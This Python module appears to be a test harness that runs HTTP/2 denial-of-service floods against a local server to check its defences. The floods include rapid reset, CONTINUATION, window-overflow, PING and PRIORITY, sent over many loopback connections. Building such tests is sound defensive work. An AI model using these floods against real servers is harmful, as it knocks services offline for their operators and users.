"""Floods of HTTP/2: what is allowed, or nearly, and costs a client less than it costs a server. As a program, an attacker:

    attacker.py PORT FLOOD SECONDS CONNECTIONS h2c|tls

sends one of them on so many connections at once, as fast as they take it, each again as soon as it is told to go or is
cut off. Every connection comes from a loopback address of its own, by which the origin knows it. In the end it says what
it did."""
import collections
import itertools
import json
import os
import selectors
import socket
import ssl
import subprocess
import sys
import time

from certificates import unverified
from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                          Incoming, block, frame, get)

PATH = "/flood"   # what it asks for
REPEATED = 20_000   # more than any server should put up with
CALM = b"\0\0\0\x0b"   # ENHANCE_YOUR_CALM
PAUSE = 0.02   # within which requests have reached the origin


def _reset(stream):
    return frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def _overflow(stream):
    return frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")


def _late(end):
    """A hundred requests; once they run, their end and as many others in their place, and so on."""
    ask = lambda stream: get(stream, path=PATH)
    yield b"".join(map(ask, range(1, 200, 2)))
    for first in range(201, 2 * REPEATED // 10, 200):
        yield b"".join(end(stream - 200) + ask(stream) for stream in range(first, first + 200, 2))


def _requests(more, method="GET", flags=END_STREAM | END_HEADERS):
    return b"".join(get(stream, method=method, path=PATH, flags=flags) + more(stream) for stream in range(1, 2 * REPEATED, 2))


def _open(more):
    """A request whose content goes on and on."""
    return get(1, method="POST", path=PATH, flags=END_HEADERS) + more * REPEATED


# The octets of each; of one with pauses, in parts.
FLOODS = {
    "rapid-reset": lambda: _requests(_reset),
    "late-reset": lambda: list(_late(_reset)),
    "late-overflow": lambda: list(_late(_overflow)),
    "reset-by-window-overflow": lambda: _requests(_overflow),
    "reset-by-zero-increment": lambda: _requests(lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))),
    "reset-by-priority-size": lambda: _requests(lambda stream: frame(PRIORITY, 0, stream, bytes(4))),
    "reset-by-content-length": lambda: b"".join(get(stream, ("content-length", "1"), method="POST", path=PATH, flags=END_HEADERS)
                                                + frame(DATA, 0, stream, b"too much") for stream in range(1, 2 * REPEATED, 2)),
    "data-on-half-closed": lambda: _requests(lambda stream: frame(DATA, 0, stream, b"x")),
    "continuation": lambda: frame(HEADERS, END_STREAM, 1, block(path=PATH)) + frame(CONTINUATION, 0, 1, block(("x", "y"))[-5:]) * REPEATED,
    "ping": lambda: _open(frame(PING, 0, 0, b"12345678")),
    "settings": lambda: _open(frame(SETTINGS)),
    "empty-data": lambda: _open(frame(DATA, 0, 1)),
    "priority": lambda: get(1, path=PATH) + b"".join(frame(PRIORITY, 0, 1, (2 * number + 3).to_bytes(4, "big") + b"\x10") for number in range(REPEATED)),
}


class Attack:
    """One connection at a time from the addresses of one network, 127.`network`.x.y."""

    def __init__(self, port, parts, network, context, done):
        self.port, self.parts, self.context, self.done = port, parts, context, done
        self.addresses = itertools.cycle(f"127.{network}.{x}.{y}" for x in range(256) for y in range(1, 255))

    def begin(self, selector):
        self.part, self.sent, self.rests_until, self.greeted, self.incoming = 0, 0, None, self.context is None, Incoming()
        self.socket = socket.socket()
        self.socket.bind((next(self.addresses), 0))
        self.socket.settimeout(10)
        self.socket.connect(("127.0.0.1", self.port))
        self.socket.setblocking(False)
        if self.context:
            self.socket = self.context.wrap_socket(self.socket, server_hostname="a.test", do_handshake_on_connect=False)
        selector.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)
        self.done["connections"] += 1

    def go_on(self, selector, writable):
        try:
            if not self.greeted:
                self.socket.do_handshake()
                self.greeted = True
            if not self._stays():
                self._come_again(selector)
            elif writable and self.rests_until is None:
                self._send(selector)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:   # cut off
            self.done["cut_off"] += 1
            self._come_again(selector)

    def _send(self, selector):
        part = self.parts[self.part]
        sent = self.socket.send(part[self.sent:self.sent + 65536])
        self.sent += sent
        self.done["octets"] += sent
        if self.sent < len(part):
            return
        self.part, self.sent = self.part + 1, 0
        whole = self.part == len(self.parts)
        self.done["sent_whole"] += whole
        self.rests_until = float("inf") if whole else time.monotonic() + PAUSE
        selector.modify(self.socket, selectors.EVENT_READ, self)

    def wake(self, selector, now):
        if self.rests_until is not None and self.rests_until <= now:
            self.rests_until = None
            selector.modify(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def _stays(self):
        """Until it is told to calm down, or cut off."""
        try:
            while octets := self.socket.recv(65536):
                if any(kind == GOAWAY and payload[4:8] == CALM for kind, _, _, payload in self.incoming.take(octets)):
                    self.done["calmed"] += 1
                    return False
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        raise ConnectionResetError

    def _come_again(self, selector):
        self.end(selector)
        self.begin(selector)

    def end(self, selector):
        selector.unregister(self.socket)
        self.socket.close()


def attack(port, flood, seconds, connections, over):
    """So long; what was done."""
    context = None
    if over == "tls":
        context = unverified()
        context.set_alpn_protocols(["h2"])
    flood = FLOODS[flood]()
    parts = [memoryview(part) for part in (flood if isinstance(flood, list) else [flood])]
    parts[0] = memoryview(PREFACE + frame(SETTINGS) + parts[0])
    done, selector = collections.Counter(), selectors.DefaultSelector()
    attacks = [Attack(port, parts, 1 + number, context, done) for number in range(connections)]
    end = time.monotonic() + seconds
    for one in attacks:
        one.begin(selector)
    while (left := end - time.monotonic()) > 0:
        for key, events in selector.select(min(left, PAUSE)):
            key.data.go_on(selector, events & selectors.EVENT_WRITE)
        for one in attacks:
            one.wake(selector, time.monotonic())
    for one in attacks:
        one.end(selector)
    return dict(done)


class Attacker:
    """The program in a process of its own, with what the machine has left: it stands for another machine."""

    def __init__(self, port, flood, seconds, connections=4, over="h2c"):
        self.process = subprocess.Popen([sys.executable, __file__, str(port), flood, str(seconds), str(connections), over],
                                        stdout=subprocess.PIPE, text=True, preexec_fn=lambda: os.setpriority(os.PRIO_PROCESS, 0, 15))

    def wait(self):
        """What it did: connections, those that were told to calm down or cut off, those that took all of the flood, octets."""
        said, _ = self.process.communicate(timeout=120)
        return collections.Counter(json.loads(said))


if __name__ == "__main__":
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), int(sys.argv[4]), sys.argv[5])))
